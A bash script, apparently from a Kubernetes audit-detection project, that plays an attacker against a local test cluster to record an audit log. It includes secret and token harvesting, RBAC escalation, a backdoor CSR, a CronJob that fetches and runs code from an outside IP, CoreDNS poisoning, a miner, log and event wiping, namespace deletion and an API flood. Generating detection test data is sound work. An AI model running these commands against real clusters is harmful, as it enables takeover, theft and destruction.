#!/bin/bash
# Everything beyond pod specs that the audit log shows of the Threat Matrix: exec/attach/cp/logs,
# tokens minted and used from elsewhere, service accounts and identities from new sources,
# secret harvesting, RBAC escalation, impersonation, CSRs, events deleted, look-alike names,
# backdoor DaemonSet/CronJob in kube-system, exposed dashboards, CoreDNS, NetworkPolicies,
# destruction and denial of service. Runs after benign.sh and workloads.sh (mallory already
# holds cluster-admin). The audit log of this run is testdata/apiserver-1.36-access.log.
. "${LIB:-/work/shared/scenarios/lib.sh}"
A=admin-token; M=attacker-token; D=dev-token
set -x
K() { local t=$1; shift; timeout 20 kubectl --server=https://127.0.0.1:6443 --insecure-skip-tls-verify --token="$t" "$@"; }
# hdr TOKEN METHOD PATH HEADER [BODY]: a raw call with one extra header (impersonation).
hdr() {
  local t=$1 m=$2 p=$3 h=$4 body=${5:-}
  curl -sk -o /dev/null -w "%{http_code} $m $p\n" -X "$m" -H "Authorization: Bearer $t" -H "$h" \
    -H "X-Forwarded-For: ${SRC_IP:-198.51.100.23}" -H "Content-Type: application/json" -A "${UA:-python-requests/2.31.0}" \
    ${body:+--data-binary "$body"} "https://127.0.0.1:6443$p"
}

# Admin's setup for this run: more namespaces with secrets, a registry secret, a node, a
# NetworkPolicy, the CoreDNS Deployment, a service account for a backup job.
for ns in shop billing kubernetes-dashboard argocd; do K $A create namespace $ns; done
K $A -n shop create secret generic api-key --from-literal=key=sk_live_1234
K $A -n billing create secret generic stripe --from-literal=token=rk_live_5678
K $A -n shop create secret docker-registry regcred --docker-server=registry.example.com --docker-username=ci --docker-password=pw
K $A -n team-a create serviceaccount backup
K $A -n team-a create rolebinding backup-view --clusterrole=view --serviceaccount=team-a:backup
K $A create clusterrolebinding eks-ops-view --clusterrole=view --user='arn:aws:iam::123456789012:role/eks-ops'
K $A -n team-a create networkpolicy default-deny 2>/dev/null || cat <<Y | K $A -n team-a create -f -
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: default-deny}
spec: {podSelector: {}, policyTypes: [Ingress, Egress]}
Y
cat <<Y | K $A create -f -
apiVersion: v1
kind: Node
metadata: {name: node-1, labels: {kubernetes.io/hostname: node-1}}
Y
K $A -n kube-system create deployment coredns --image=registry.k8s.io/coredns/coredns:v1.11.1
K $D -n team-a run toolbox --image=busybox:1.36 -- sleep 1d
K $A -n team-a create configmap app-settings --from-literal=LOG_LEVEL=debug
sleep 2

# Execution and collection: exec (shell, plain, log clearing), cp, logs, attach, port-forward.
K $M -n team-a exec toolbox -- sh -c 'id; cat /var/run/secrets/kubernetes.io/serviceaccount/token'
K $M -n team-a exec toolbox -- ls /
K $M -n team-a exec toolbox -- sh -c 'rm -rf /var/log/*'
K $M -n team-a cp toolbox:/etc/passwd /tmp/kaudit-passwd
K $M -n team-a logs toolbox
K $D -n team-a logs toolbox
api $M POST '/api/v1/namespaces/team-a/pods/toolbox/attach?container=toolbox&stdin=true&stdout=true&tty=true'
api $M POST '/api/v1/namespaces/team-a/pods/toolbox/portforward?ports=5432'
api $M POST '/api/v1/namespaces/team-a/pods/toolbox/exec?command=%2Fbin%2Fbash&container=toolbox&stdin=true&stdout=true&tty=true'

# Container service account: a token minted by a person, used first from here with kubectl,
# then from elsewhere with another client.
SAT=$(K $M -n team-a create token backup --duration=8760h)
sleep 1
K "$SAT" -n team-a get pods
K "$SAT" -n team-a get configmaps
SRC_IP=198.51.100.23 UA=python-requests/2.31.0 api "$SAT" GET /api/v1/namespaces/team-a/pods
SRC_IP=198.51.100.23 UA=python-requests/2.31.0 api "$SAT" GET /api/v1/namespaces/team-a/secrets

# Kubeconfig and cloud credentials: alice's token from a new address and client; a cloud
# identity (impersonated by admin, as an authenticating proxy would present it) from two places.
SRC_IP=198.51.100.77 UA=python-requests/2.31.0 api $D GET /api/v1/namespaces/team-a/pods
K $A --as='arn:aws:iam::123456789012:role/eks-ops' --as-group=system:authenticated auth can-i get pods >/dev/null
SRC_IP=203.0.113.99 UA=Boto3/1.34.0 hdr $A GET /api/v1/namespaces/team-a/pods 'Impersonate-User: arn:aws:iam::123456789012:role/eks-ops'
# Connect from proxy server: a forwarded chain through an outside proxy.
SRC_IP='185.220.101.4, 10.0.0.8' UA=curl/8.5.0 api $M GET /api/v1/namespaces/kube-system/configmaps

# Discovery: permission enumeration, then use; a burst of denied requests by alice.
K $M auth can-i --list -n kube-system >/dev/null
K $M auth can-i create pods -n kube-system
for r in 'get secrets -n kube-system' 'get nodes' 'get configmaps -n kube-system' 'get pods -A' 'get clusterroles' 'delete namespace team-a' 'get secrets -n billing'; do
  K $D $r
done
# Kubelet API through the apiserver.
api $M GET /api/v1/nodes/node-1/proxy/pods
api $M GET /api/v1/nodes/node-1/proxy/metrics
api $M POST '/api/v1/nodes/node-1/proxy/run/kube-system/kube-proxy-x7k2p/kube-proxy?cmd=id'
K $M get --raw /api/v1/nodes/node-1/proxy/logs/

# Credential access: secrets read one by one across namespaces; a registry credential.
for s in team-a/db-creds shop/api-key billing/stripe kube-system/bootstrap-token-abcdef; do
  K $M -n ${s%%/*} get secret ${s##*/} -o name
done
K $M -n shop get secret regcred -o yaml >/dev/null
K $M -n shop create configmap payment-gateway --from-literal=DB_PASSWORD=s3cr3t --from-literal=region=eu
K $M -n kube-system create configmap cloud-sync --from-literal=AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY --from-literal=bucket=backups
K $M -n team-a create deployment reporter --image=busybox:1.36 -- sleep 1d
K $M -n team-a set env deployment/reporter DB_PASSWORD=hunter2 API_TOKEN=abc123 LOG_LEVEL=info

# Privilege escalation through RBAC, impersonation and a CSR for system:masters.
K $M create clusterrole ops-all --verb='*' --resource='*'
K $M create clusterrolebinding ops-all --clusterrole=ops-all --serviceaccount=team-a:backup
K $M create clusterrole rbac-manager --verb=bind,escalate --resource=clusterroles,roles
K $M create clusterrole impersonator --verb=impersonate --resource=users,groups,serviceaccounts
K $M -n team-a create role secret-reader --verb=get,list --resource=secrets
K $M create clusterrolebinding everyone-view --clusterrole=view --group=system:authenticated
K $M create clusterrolebinding anon-view --clusterrole=view --user=system:anonymous
sleep 1
anon /api/v1/namespaces/team-a/pods
anon /api/v1/namespaces/kube-system/secrets
K $M --as=system:admin --as-group=system:masters get secrets -n kube-system -o name
K $M --as=system:serviceaccount:kube-system:replicaset-controller -n team-a get pods
openssl req -new -newkey rsa:2048 -nodes -keyout /tmp/kaudit-csr.key -subj "/CN=backdoor-admin/O=cluster-ops" -out /tmp/kaudit-csr.pem 2>/dev/null
cat <<Y | K $M create -f -
apiVersion: certificates.k8s.io/v1
kind: CertificateSigningRequest
metadata: {name: backdoor-admin}
spec:
  request: $(base64 -w0 /tmp/kaudit-csr.pem)
  signerName: kubernetes.io/kube-apiserver-client
  usages: [client auth]
Y
K $M certificate approve backdoor-admin

# Persistence and execution in kube-system: a backdoor DaemonSet, a CronJob, look-alike names,
# a static (mirror) pod presented by a node identity, an SSH server, a miner, outside images.
K $M -n kube-system create deployment kube-proxy-helper --image=busybox:1.36 -- sleep 1d
K $M -n kube-system run kube-proxy-x7k2p --image=busybox:1.36 -- sleep 1d
K $M -n default run etcd-backup --image=busybox:1.36 -- sleep 1d
cat <<Y | K $M -n kube-system create -f -
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: node-exporter-ext}
spec:
  selector: {matchLabels: {app: node-exporter-ext}}
  template:
    metadata: {labels: {app: node-exporter-ext}}
    spec: {containers: [{name: exporter, image: "quay.io/prometheus/node-exporter:v1.7.0"}]}
Y
K $M -n kube-system create cronjob cleanup --image=alpine:3.19 --schedule='*/10 * * * *' -- sh -c 'wget -qO- http://203.0.113.7/x | sh'
K $M -n team-a create cronjob report --image=busybox:1.36 --schedule='0 3 * * *' -- sh -c 'echo report'
cat <<Y | K $A --as=system:node:node-1 --as-group=system:nodes -n kube-system create -f -
apiVersion: v1
kind: Pod
metadata:
  name: kube-apiserver-debug-node-1
  annotations: {kubernetes.io/config.mirror: "0123456789abcdef", kubernetes.io/config.source: file}
spec:
  nodeName: node-1
  containers: [{name: shell, image: "busybox:1.36", command: [sleep, 1d]}]
Y
K $M -n kube-system exec kube-proxy-x7k2p -- cat /var/lib/kube-proxy/kubeconfig
api $M POST '/api/v1/namespaces/kube-system/pods/kube-proxy-x7k2p/attach?container=kube-proxy-x7k2p&stdout=true'
K $M -n team-a run sshd --image=linuxserver/openssh-server:9.6 --port=22
K $M -n team-a create deployment miner --image=xmrig/xmrig:6.21.0 --replicas=120 -- xmrig -o stratum+tcp://pool.example.net:3333 -u wallet
K $M -n team-a create deployment tools --image=203.0.113.9:5000/tools:latest
K $M -n team-a run scratch --image=alpine -- sleep 1d

# Exposed sensitive interfaces.
K $M -n kubernetes-dashboard create service loadbalancer kubernetes-dashboard --tcp=443:8443
K $M -n team-a create service nodeport web-np --tcp=80:80
K $M -n argocd create ingress argocd-server --rule='argocd.example.com/*=argocd-server:443'

# Lateral movement: CoreDNS deleted and recreated, its Deployment's config volume changed;
# a NetworkPolicy removed.
K $M -n kube-system delete configmap coredns
K $M -n kube-system create configmap coredns --from-literal=Corefile='.:53 { hosts { 203.0.113.7 kubernetes.default.svc.cluster.local fallthrough } forward . 8.8.8.8 }'
K $M -n kube-system patch deployment coredns -p '{"spec":{"template":{"spec":{"volumes":[{"name":"config-volume","configMap":{"name":"coredns-custom"}}]}}}}'
K $M -n team-a delete networkpolicy default-deny

# Defense evasion: events deleted one by one, as a collection, and through events.k8s.io.
K $M -n team-a delete events --all
api $M DELETE /api/v1/namespaces/kube-system/events
api $M DELETE /apis/events.k8s.io/v1/namespaces/team-a/events

# Impact: scaled to zero, a PVC and whole namespaces deleted, pods deleted as a collection.
K $M -n team-a scale deployment web --replicas=0
K $M -n team-a delete deployment --all --wait=false
K $A -n billing create -f - <<Y
apiVersion: v1
kind: PersistentVolumeClaim
metadata: {name: ledger-data}
spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}
Y
K $M -n billing delete pvc ledger-data
api $M DELETE /api/v1/namespaces/team-a/pods
K $M delete namespace billing --wait=false
K $M delete namespace shop --wait=false
# Admission policies: alice (no rights) tries; mallory creates one where the API is served.
K $A api-resources --api-group=admissionregistration.k8s.io
MAP='{"apiVersion":"admissionregistration.k8s.io/v1beta1","kind":"MutatingAdmissionPolicy","metadata":{"name":"add-sidecar"},"spec":{"matchConstraints":{"resourceRules":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":["pods"]}]},"reinvocationPolicy":"Never","mutations":[{"patchType":"ApplyConfiguration","applyConfiguration":{"expression":"Object{}"}}]}}'
api $D POST /apis/admissionregistration.k8s.io/v1beta1/mutatingadmissionpolicies "$MAP"
api $M POST /apis/admissionregistration.k8s.io/v1beta1/mutatingadmissionpolicies "$MAP"
# Denial of service: alice's token floods the apiserver (1,000 requests in a few seconds).
seq 1000 | xargs -P 8 -I{} curl -sk -o /dev/null -H "Authorization: Bearer $D" -A kubectl/v1.32.4 https://127.0.0.1:6443/api/v1/namespaces/team-a/configmaps/app-settings

# Persistence through admission, last: a mutating webhook on every resource, failing closed
# (its unreachable endpoint then refuses every write in the cluster, a denial of service too).
cat <<Y | K $M apply -f -
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata: {name: cluster-policy}
webhooks:
- name: all.policy.example.com
  admissionReviewVersions: ["v1"]
  sideEffects: None
  failurePolicy: Fail
  clientConfig: {url: "https://203.0.113.7:8443/mutate"}
  rules: [{operations: ["*"], apiGroups: ["*"], apiVersions: ["*"], resources: ["*/*"]}]
Y
cat <<Y | K $A apply -f -
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: {name: image-policy}
webhooks:
- name: images.policy.example.com
  admissionReviewVersions: ["v1"]
  sideEffects: None
  failurePolicy: Ignore
  clientConfig: {service: {name: image-policy, namespace: kube-system, path: /validate}}
  rules: [{operations: ["CREATE"], apiGroups: [""], apiVersions: ["v1"], resources: ["pods"]}]
Y

sleep 5
